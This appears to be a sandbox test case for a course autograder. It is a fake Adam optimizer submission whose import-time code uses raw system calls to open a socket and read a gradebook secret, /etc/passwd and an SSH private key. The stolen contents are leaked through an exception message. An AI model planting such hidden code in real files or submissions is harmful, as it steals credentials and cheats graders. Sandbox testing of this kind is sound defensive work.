# expect: wrong error timeout
# family: steal
# exercise: adam
# machine: x86_64
# Makes sockets and opens files by raw system calls, past Python's own modules.
import ctypes
import struct

libc = ctypes.CDLL(None, use_errno=True)
FOUND = ctypes.create_string_buffer(4096)
RESULTS = []
try:
    line = libc.syscall(41, 2, 1, 0)
    address = struct.pack("<H", 2) + struct.pack(">H", int("@TCP4@")) + bytes([127, 0, 0, 1]) + bytes(8)
    RESULTS.append(libc.syscall(42, line, address, 16))
    for path in (b"@COURSE@/gradebook/secret.txt", b"/etc/passwd", b"@HOME@/.ssh/id_ed25519"):
        fd = libc.syscall(2, path, 0)
        RESULTS += [fd, libc.syscall(0, fd, FOUND, 4096)]
    how = struct.pack("<QQQ", 0, 0, 0)
    RESULTS.append(libc.syscall(437, -100, b"/etc/passwd", how, 24))
except Exception as error:
    RESULTS.append(str(error))


class Adam:
    def __init__(self, lr=0.001, beta1=0.9, beta2=0.999, eps=1e-8):
        self.lr, self.beta1, self.beta2, self.eps = lr, beta1, beta2, eps

    def update(self, params, grads):
        raise LookupError(f"{RESULTS} {FOUND.value!r}")
